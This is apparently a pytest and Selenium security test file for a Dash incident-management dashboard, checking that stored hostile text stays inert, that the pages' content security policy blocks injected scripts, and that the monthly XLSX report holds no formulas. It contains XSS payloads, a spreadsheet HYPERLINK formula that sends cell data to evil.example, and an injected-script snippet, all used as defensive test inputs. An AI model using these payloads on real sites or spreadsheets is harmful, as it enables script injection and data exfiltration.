"""In Chromium: hostile text stays text on /cases and /wall, pages run under the CSP without a
violation; in the XLSX report no cell becomes a formula.
"""
from io import BytesIO

import pytest
from openpyxl import load_workbook
from selenium.common.exceptions import NoAlertPresentException
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import WebDriverWait
from sqlalchemy import update

from data.models import Incident
from tests.auth_helpers import login_browser
from tests.clock import SESSION_NOW
from tests.dash_helpers import start_app
from tests.security_world import XSS, build_security_world, drop_security_world
from tests.test_workflow_whistles import plan
from tests.workflow_world import PASSWORD, make_incident
from workflow.accounts import load_actor
from workflow.clock import BEIJING
from workflow.whistles.service import blow_whistle

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


@pytest.fixture(scope="module")
def sw(server_settings):
    world = build_security_world(server_settings, "sec_browser")
    with world.engine.begin() as conn:
        conn.execute(update(Incident).where(Incident.id == world.incident_a)
                     .values(description=XSS, address=XSS))
        world.world.conn = conn
        accepted = make_incident(conn, world.world, "accepted", category="0101")
        second = make_incident(conn, world.world, "accepted", category="0102")
        chief = load_actor(conn, world.world.users["chief_a"])
        now = SESSION_NOW
        blow_whistle(conn, chief, plan([accepted], matter=XSS), now)
        blow_whistle(conn, chief, plan([second], matter=FORMULA), now)
        world.world.conn = None
    yield world
    drop_security_world(server_settings, world)


def no_alert(driver) -> bool:
    try:
        _ = driver.switch_to.alert
    except NoAlertPresentException:
        return True
    return False


def csp_problems(dash_duo) -> list:
    logs = dash_duo.get_logs() or []
    return [log for log in logs if log.get("level") == "SEVERE"
            or "Content Security Policy" in log.get("message", "")]


def body_text(driver) -> str:
    return driver.find_element(By.TAG_NAME, "body").text


def test_hostile_text_is_shown_as_text_on_the_workbench(dash_duo, sw):
    start_app(dash_duo, sw.app)
    login_browser(dash_duo, "chief_a", PASSWORD, "/cases")
    dash_duo.wait_for_contains_text(".cases-count", "共", timeout=15)
    driver = dash_duo.driver
    driver.find_element(By.XPATH, "//*[contains(@class,'case-title')][text()='园林绿化']").click()
    WebDriverWait(driver, 15).until(lambda d: "<script>alert(1)</script>" in body_text(d))
    assert "<img src=x onerror=alert(1)>" in body_text(driver)
    assert driver.find_elements(By.CSS_SELECTOR, "img[src='x']") == []
    assert no_alert(driver)
    assert csp_problems(dash_duo) == []


def test_hostile_text_is_inert_on_the_wall(dash_duo, sw):
    start_app(dash_duo, sw.app)
    login_browser(dash_duo, "wall", PASSWORD, "/wall")
    dash_duo.wait_for_element(".wall-canvas", timeout=15)
    driver = dash_duo.driver
    WebDriverWait(driver, 20).until(lambda d: "<script>alert(1)</script>" in body_text(d))
    assert driver.find_elements(By.CSS_SELECTOR, "img[src='x']") == []
    assert no_alert(driver)
    assert csp_problems(dash_duo) == []


def test_hostile_text_is_shown_as_text_on_the_analyst_page(dash_duo, sw):
    start_app(dash_duo, sw.app)
    login_browser(dash_duo, "admin", PASSWORD, "/analyst")
    driver = dash_duo.driver
    WebDriverWait(driver, 25).until(lambda d: "<script>alert(1)</script>" in body_text(d))
    assert driver.find_elements(By.CSS_SELECTOR, "img[src='x']") == []
    assert no_alert(driver)
    assert csp_problems(dash_duo) == []


def test_no_page_renders_raw_html():
    """Dash escapes every string; only these switches would turn that off."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[1] / "dashboard"
    risky = [str(p) for p in root.rglob("*.py")
             if any(word in p.read_text(encoding="utf-8") for word in
                    ("dangerously_allow_html", "dangerously_allow_code", "srcDoc", "innerHTML"))]
    assert risky == []


@pytest.mark.parametrize("page,ready", [("/analyst", ".desk-main h1"),
                                        ("/leaders", ".desk-main h1"),
                                        ("/cases", ".cases-count")])
def test_desk_pages_run_under_the_csp(dash_duo, sw, page, ready):
    start_app(dash_duo, sw.app)
    login_browser(dash_duo, "admin", PASSWORD, page)
    dash_duo.wait_for_element(ready, timeout=20)
    WebDriverWait(dash_duo.driver, 10).until(
        lambda d: d.execute_script("return !document.querySelector('._dash-loading')"))
    assert no_alert(dash_duo.driver)
    assert csp_problems(dash_duo) == []


def test_the_csp_blocks_an_injected_inline_script(dash_duo, sw):
    """The control: what a successful injection would do is refused and logged."""
    start_app(dash_duo, sw.app)
    login_browser(dash_duo, "admin", PASSWORD, "/cases")
    dash_duo.wait_for_element(".cases-count", timeout=20)
    dash_duo.get_logs()
    ran = dash_duo.driver.execute_script(
        "window.__pwned = false; const s = document.createElement('script');"
        "s.textContent = 'window.__pwned = true'; document.body.appendChild(s);"
        "return window.__pwned;")
    assert ran is False
    assert any("Content Security Policy" in log.get("message", "")
               for log in dash_duo.get_logs() or [])


def test_no_cell_of_the_monthly_report_is_a_formula(sw):
    client = sw.client("chief_a")
    # The day the hostile texts were written, whole (the default is the last full month while
    # the current one is young, and a running month ends at this very moment).
    day = SESSION_NOW.astimezone(BEIJING).date().isoformat()
    response = client.get(f"/api/v1/reports/monthly.xlsx?from={day}&to={day}")
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    book = load_workbook(BytesIO(response.data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + FORMULA in texts
    assert XSS in texts     # stored as text: a spreadsheet never renders it as HTML
